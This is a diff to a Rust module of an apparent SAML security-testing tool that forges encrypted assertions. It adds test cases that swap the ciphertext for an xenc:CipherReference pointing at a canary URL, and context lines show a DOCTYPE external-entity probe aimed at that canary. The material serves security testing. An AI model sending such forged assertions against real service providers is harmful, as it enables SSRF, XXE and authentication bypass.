@@ -1,14 +1,15 @@
 //! Encrypted assertions. Anyone can encrypt to the SP's published certificate, so encryption
 //! proves nothing about who wrote the plaintext: an unsigned forgery inside EncryptedAssertion,
 //! a stale or misdirected token hidden by encryption, RSA PKCS#1 v1.5 key transport, a DOCTYPE
-//! in the plaintext, a signed assertion hidden beside a forged plaintext one, and a forged
-//! encrypted one beside the signed original.
+//! in the plaintext, a ciphertext named by a CipherReference on the canary, a signed
+//! assertion hidden beside a forged plaintext one, and a forged encrypted one beside the
+//! signed original.
 
-use saml_protocol::xmlenc::{self, KeyTransport};
+use saml_protocol::xmlenc::{self, KeyTransport, XENC_NS};
 
 use saml_protocol::PROTOCOL_NS;
 
-use crate::bytes::{declares_own_namespace, insert, splice, Doc};
+use crate::bytes::{child, declares_own_namespace, escape, insert, splice, Doc};
 use crate::family::{evil_id, forge_document, strip_signatures, token, Parts};
 use crate::forge::{Forge, Forged, Skip};
 
@@ -91,6 +92,56 @@ pub fn doctype_in_plaintext(f: &Forge) -> Result<Forged, Skip> {
         format!("<!DOCTYPE Assertion [<!ENTITY % probe SYSTEM \"{canary}/decrypted\">%probe;]>{a}")
     })?;
     Ok(Forged::same_identity(xml))
+}
+
+/// Which ciphertext of an EncryptedAssertion a CipherReference replaces.
+#[derive(Clone, Copy)]
+enum Ciphertext {
+    /// The encrypted Assertion (EncryptedData's CipherData).
+    Content,
+    /// The wrapped content key (EncryptedKey's CipherData).
+    Key,
+}
+
+/// The IdP's own assertion encrypted to the SP, EncryptedData's ciphertext not inline but
+/// named by an `xenc:CipherReference` on the canary: a decryptor that dereferences it fetches
+/// whatever a message names, before any signature is checked.
+pub fn cipher_reference_data(f: &Forge) -> Result<Forged, Skip> {
+    cipher_referenced(f, Ciphertext::Content, "cipher-data")
+}
+
+/// As [`cipher_reference_data`], the EncryptedKey's wrapped key named by the CipherReference
+/// (a decryptor may restrict the outer context only: `xmlsec1 --enabled-cipher-reference-uris`).
+pub fn cipher_reference_key(f: &Forge) -> Result<Forged, Skip> {
+    cipher_referenced(f, Ciphertext::Key, "cipher-key")
+}
+
+fn cipher_referenced(f: &Forge, which: Ciphertext, path: &str) -> Result<Forged, Skip> {
+    let uri = format!("{}/{path}", f.canary()?.prefix);
+    let xml = encrypted(f, f.seed, KeyTransport::RsaOaep, &|a| a.to_owned())?;
+    let doc = Doc::parse_built(&xml)?;
+    let name = match which {
+        Ciphertext::Content => "EncryptedData",
+        Ciphertext::Key => "EncryptedKey",
+    };
+    let cipher_data = doc
+        .root()
+        .descendants()
+        .find(|n| n.has_tag_name((XENC_NS, name)))
+        .and_then(|holder| child(holder, XENC_NS, "CipherData"))
+        .ok_or_else(|| {
+            Skip::Failed(format!(
+                "the encrypted assertion built has no {name}/CipherData"
+            ))
+        })?;
+    let reference = format!(
+        "<xenc:CipherData><xenc:CipherReference URI=\"{}\"/></xenc:CipherData>",
+        escape(&uri)
+    );
+    Ok(Forged::same_identity(splice(
+        doc.src,
+        vec![(cipher_data.range(), reference)],
+    )))
 }
 
 /// The signed Assertion encrypted, and a forged unsigned copy (new ID) in plaintext before
